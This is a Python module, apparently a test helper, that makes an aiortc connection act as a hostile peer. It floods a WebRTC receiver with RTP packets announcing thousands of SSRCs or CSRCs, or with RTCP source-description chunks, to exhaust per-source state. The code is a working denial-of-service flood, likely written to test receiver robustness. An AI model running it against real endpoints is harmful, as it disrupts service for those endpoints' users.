"""RTP and RTCP packets of a hostile peer with many sources."""

import asyncio
import random
import re
import struct

from aiortc import RTCPeerConnection
from aiortc.rtp import RtpPacket

# A receiver accepts a source only after a few consecutive packets (RFC 3550, A.1).
PACKETS_OF_EACH = 5
PAYLOAD = bytes([0x10, 0x01, 0x00, 0x00]) + bytes(60)
# The maximum numbers of sources in one packet (RFC 3550, 5.1 and 6.5).
CSRCS_OF_A_PACKET, CHUNKS_OF_A_PACKET, PACKETS_OF_A_COMPOUND = 15, 31, 4


def ssrcs(sources: list[int], payload_type: int):
    """Yields some RTP packets of each SSRC."""
    for number in range(PACKETS_OF_EACH):
        for ssrc in sources:
            yield RtpPacket(payload_type, 1, 1000 + number, 3000 * number, ssrc, PAYLOAD).serialize()


def csrcs(sources: list[int], payload_type: int):
    """Yields RTP packets of the first SSRC with the other SSRCs as contributing sources."""
    ssrc = sources[0]
    yield from ssrcs([ssrc], payload_type)
    for number, start in enumerate(range(1, len(sources), CSRCS_OF_A_PACKET), PACKETS_OF_EACH):
        packet = RtpPacket(payload_type, 1, 1000 + number, 3000 * number, ssrc, PAYLOAD)
        packet.csrc = sources[start : start + CSRCS_OF_A_PACKET]
        yield packet.serialize()


def descriptions(sources: list[int], payload_type: int):
    """Yields RTCP source descriptions without items for all SSRCs except the first one."""
    report = struct.pack("!BBHI", 0x80, 201, 1, sources[0])
    compound = report
    for number, start in enumerate(range(1, len(sources), CHUNKS_OF_A_PACKET), 1):
        chunks = [struct.pack("!II", ssrc, 0) for ssrc in sources[start : start + CHUNKS_OF_A_PACKET]]
        compound += struct.pack("!BBH", 0x80 | len(chunks), 202, 2 * len(chunks)) + b"".join(chunks)
        if number % PACKETS_OF_A_COMPOUND == 0:
            yield compound
            compound = report


KINDS = {"ssrcs": ssrcs, "csrcs": csrcs, "descriptions": descriptions}


async def flood(connection: RTCPeerConnection, kind: str, count: int) -> None:
    """Announces `count` sources, with the payload type of the first negotiated video format."""
    transport = connection.getSenders()[0].transport
    payload_type = int(re.search(r"m=video \d+ \S+ (\d+)", connection.localDescription.sdp)[1])
    sources = random.Random(7).sample(range(1, 2**32), count)
    for index, packet in enumerate(KINDS[kind](sources, payload_type)):
        await transport._send_rtp(packet)
        if index % 50 == 49:
            await asyncio.sleep(0.01)
